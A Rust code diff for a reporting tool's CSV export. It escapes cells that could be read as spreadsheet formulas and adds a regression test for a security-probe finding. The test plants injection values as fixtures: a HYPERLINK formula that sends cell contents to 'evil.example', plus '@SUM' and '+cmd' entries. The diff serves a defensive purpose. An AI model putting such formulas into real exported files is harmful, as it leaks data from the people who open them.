@@ -332,7 +332,14 @@ pub fn markdown(r: &Report) -> String {
     s
 }
 
+/// One topic's CSV row; every cell of text (labels and samples come from customers, doc ids
+/// and titles from the docs) is kept from reading as a formula
+/// ([`docent_core::spreadsheet_text`]).
 fn csv_row(g: &Gap, section: &str) -> [String; 19] {
+    csv_cells(g, section).map(|c| docent_core::spreadsheet_text(&c))
+}
+
+fn csv_cells(g: &Gap, section: &str) -> [String; 19] {
     [
         section.to_string(),
         g.rank.to_string(),
@@ -591,6 +598,25 @@ mod tests {
             }
         }
         out
+    }
+
+    // Second security probe, finding 6: a doc id reached the CSV as a live formula.
+    #[test]
+    fn no_csv_cell_reads_as_a_formula() {
+        let mut g = planted();
+        g.closest_docs = vec![(
+            "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Fix sync\")".into(),
+            "Fix sync".into(),
+            0.4,
+        )];
+        g.label = "@SUM(1+1)".into();
+        g.action = "+cmd".into();
+        let row = csv_row(&g, "gaps");
+        assert!(
+            row.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])),
+            "{row:?}"
+        );
+        assert!(row.iter().any(|c| c.starts_with("'=HYPERLINK")), "{row:?}");
     }
 
     #[test]
